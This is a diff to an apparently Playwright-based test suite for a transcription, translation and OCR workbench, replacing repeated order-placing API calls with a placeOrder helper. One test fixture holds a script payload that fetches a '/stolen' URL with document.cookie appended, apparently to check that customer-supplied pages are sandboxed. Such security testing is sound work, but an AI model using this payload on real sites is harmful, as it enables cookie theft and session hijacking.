@@ -19,6 +19,7 @@ import { getTask, tasksOfOrder } from '../../src/db/tasks.js';
 import { translatorsFrom } from '../../src/engines/translators.js';
 import { hasLeg } from '../helpers/legs.js';
 import { scannedPage } from '../helpers/pages.js';
+import { placeOrder } from '../helpers/orders.js';
 
 const OCR_LINES = ['The committee met on Tuesday morning to review the budget for the coming year.', 'The chair promised a clear answer next month.'];
 
@@ -115,15 +116,11 @@ describeNeeding('chromium', 'the workbench in Chromium', () => {
 
   it("a worker claims, hears, edits, reloads, submits; a reviewer sends it back, then approves; the customer gets the worker's words", async () => {
     const account = await service.createAccount(20);
-    const placed = await service.post('/api/v4/transcriptions', {
-      api_token: account.token,
-      mode: 'live',
-      url: media.audio(40),
-      language: 'english',
-      callback_url: receiver.url,
+    const { orderId } = await placeOrder(service, {
+      token: account.token,
+      fields: { url: media.audio(40), language: 'english' },
+      callbackUrl: receiver.url,
     });
-    expect(placed.status, JSON.stringify(placed.body)).toBe(200);
-    const orderId = placed.body.order_id as number;
     // The task opens once the engine's draft is in.
     const workTaskId = await waitFor(async () => (await tasksOfOrder(service.database.db, orderId))[0]?.id, 'the work task');
 
@@ -222,21 +219,16 @@ describeNeeding('chromium', 'the workbench in Chromium', () => {
 
   it('translation shows the source beside the target; OCR shows the page, with zoom', async () => {
     const account = await service.createAccount(50);
-    const translation = await service.post('/api/v4/translations', {
-      api_token: account.token,
-      mode: 'live',
-      url: docs.serve('/letter.txt', 'Dear customer,\n\nyour order is ready.', 'text/plain'),
-      translate_from: 'english',
-      translate_to: 'french',
+    const translation = await placeOrder(service, {
+      token: account.token,
+      path: 'translations',
+      fields: { url: docs.serve('/letter.txt', 'Dear customer,\n\nyour order is ready.', 'text/plain'), translate_from: 'english', translate_to: 'french' },
     });
-    expect(translation.status, JSON.stringify(translation.body)).toBe(200);
-    const ocr = await service.post('/api/v4/human-ocr', {
-      api_token: account.token,
-      mode: 'live',
-      url: docs.serve('/page.png', pngImage(300, 200), 'image/png'),
-      language: 'english',
+    const ocr = await placeOrder(service, {
+      token: account.token,
+      path: 'human-ocr',
+      fields: { url: docs.serve('/page.png', pngImage(300, 200), 'image/png'), language: 'english' },
     });
-    expect(ocr.status, JSON.stringify(ocr.body)).toBe(200);
     for (const id of [translation.body.order_id, ocr.body.order_id]) await waitFor(async () => (await tasksOfOrder(service.database.db, id))[0], 'the task');
 
     const tom = await signIn('Tom');
@@ -247,14 +239,11 @@ describeNeeding('chromium', 'the workbench in Chromium', () => {
     await axeCheck(tom);
     await screenshot(tom, 'workbench-translation');
     // Speech to translate: the translator hears it in the player.
-    const spoken = await service.post('/api/v4/translations', {
-      api_token: account.token,
-      mode: 'live',
-      url: media.audio(30),
-      translate_from: 'english',
-      translate_to: 'french',
+    const spoken = await placeOrder(service, {
+      token: account.token,
+      path: 'translations',
+      fields: { url: media.audio(30), translate_from: 'english', translate_to: 'french' },
     });
-    expect(spoken.status, JSON.stringify(spoken.body)).toBe(200);
     await waitFor(async () => (await tasksOfOrder(service.database.db, spoken.body.order_id))[0], "the spoken translation's task");
     await tom.goto(`/work/tasks/task-${spoken.body.order_id}-work`);
     await tom.getByRole('button', { name: 'Claim' }).click();
@@ -274,13 +263,11 @@ describeNeeding('chromium', 'the workbench in Chromium', () => {
     await screenshot(olga, 'workbench-ocr');
 
     // A scanned PDF: each of its pages drawn (in the sandbox) beside the text.
-    const scanned = await service.post('/api/v4/human-ocr', {
-      api_token: account.token,
-      mode: 'live',
-      url: docs.serve('/scan.pdf', await blankPdf(2), 'application/pdf'),
-      language: 'english',
+    const scanned = await placeOrder(service, {
+      token: account.token,
+      path: 'human-ocr',
+      fields: { url: docs.serve('/scan.pdf', await blankPdf(2), 'application/pdf'), language: 'english' },
     });
-    expect(scanned.status, JSON.stringify(scanned.body)).toBe(200);
     await waitFor(async () => (await tasksOfOrder(service.database.db, scanned.body.order_id))[0], 'the PDF task');
     await olga.goto('/work/queue');
     await olga.getByRole('button', { name: 'Claim next task' }).click();
@@ -300,9 +287,7 @@ describeNeeding('chromium', 'the workbench in Chromium', () => {
       '<!doctype html><html><head><title>customer page</title></head><body><h1>Not audio</h1>' +
       `<script>document.title = 'pwned'; fetch('${media.url}/stolen?' + document.cookie, { mode: 'no-cors' });</script></body></html>`;
     const place = async (url: string) => {
-      const placed = await service.post('/api/v4/transcriptions', { api_token: account.token, mode: 'live', url, language: 'english' });
-      expect(placed.status, JSON.stringify(placed.body)).toBe(200);
-      const orderId = placed.body.order_id as number;
+      const { orderId } = await placeOrder(service, { token: account.token, fields: { url, language: 'english' } });
       await waitFor(async () => (await tasksOfOrder(service.database.db, orderId))[0], `the task of order ${orderId}`);
       return orderId;
     };
@@ -373,15 +358,11 @@ describeNeeding('chromium', 'the workbench in Chromium', () => {
   it('the queue lists soonest deadline first with length, time left and pay; captions open with their draft; words typed just before the tab closes are kept', async () => {
     const account = await service.createAccount(50);
     const place = async (path: string, seconds: number, turnaround: string) => {
-      const placed = await service.post(`/api/v4/${path}`, {
-        api_token: account.token,
-        mode: 'live',
-        url: media.audio(seconds),
-        language: 'german',
-        turnaround_time: turnaround,
+      const { orderId } = await placeOrder(service, {
+        token: account.token,
+        path,
+        fields: { url: media.audio(seconds), language: 'german', turnaround_time: turnaround },
       });
-      expect(placed.status, JSON.stringify(placed.body)).toBe(200);
-      const orderId = placed.body.order_id as number;
       await waitFor(async () => (await tasksOfOrder(service.database.db, orderId))[0], `the task of order ${orderId}`);
       return orderId;
     };
@@ -423,9 +404,7 @@ describeNeeding('chromium', 'the workbench in Chromium', () => {
     async () => {
       const account = await service.createAccount(100);
       const place = async (path: string, fields: Record<string, unknown>) => {
-        const placed = await service.post(`/api/v4/${path}`, { api_token: account.token, mode: 'live', ...fields });
-        expect(placed.status, `${path}: ${JSON.stringify(placed.body)}`).toBe(200);
-        const orderId = placed.body.order_id as number;
+        const { orderId } = await placeOrder(service, { token: account.token, path, fields });
         await waitFor(async () => (await tasksOfOrder(service.database.db, orderId))[0], `the ${path} task`, 60_000);
         return orderId;
       };
@@ -499,9 +478,7 @@ describeNeeding('chromium', 'the workbench in Chromium', () => {
     };
     try {
       const account = await service.createAccount(20);
-      const placed = await service.post('/api/v4/transcriptions', { api_token: account.token, mode: 'live', url: media.audio(30), language: 'dutch' });
-      expect(placed.status, JSON.stringify(placed.body)).toBe(200);
-      const orderId = placed.body.order_id as number;
+      const { orderId } = await placeOrder(service, { token: account.token, fields: { url: media.audio(30), language: 'dutch' } });
       await waitFor(async () => (await tasksOfOrder(service.database.db, orderId))[0], 'the work task');
       const dirk = await signIn('Dirk');
       await dirk.goto(`/work/tasks/task-${orderId}-work`);
@@ -569,13 +546,11 @@ describeNeeding('chromium', 'the workbench in Chromium', () => {
 
   it("types right-to-left languages right to left: an Arabic transcript's text box, a translation into Hebrew beside its English source", async () => {
     const account = await service.createAccount(20);
-    const arabic = await service.post('/api/v4/transcriptions', { api_token: account.token, mode: 'live', url: media.audio(30), language: 'arabic' });
-    const hebrew = await service.post('/api/v4/translations', {
-      api_token: account.token,
-      mode: 'live',
-      url: docs.serve('/letter-en.txt', 'Dear customer, your order is ready.', 'text/plain'),
-      translate_from: 'english',
-      translate_to: 'hebrew',
+    const arabic = await placeOrder(service, { token: account.token, fields: { url: media.audio(30), language: 'arabic' } });
+    const hebrew = await placeOrder(service, {
+      token: account.token,
+      path: 'translations',
+      fields: { url: docs.serve('/letter-en.txt', 'Dear customer, your order is ready.', 'text/plain'), translate_from: 'english', translate_to: 'hebrew' },
     });
     const amal = await signIn('Amal');
     const direction = (locator: Locator) => locator.evaluate((element) => getComputedStyle(element).direction);
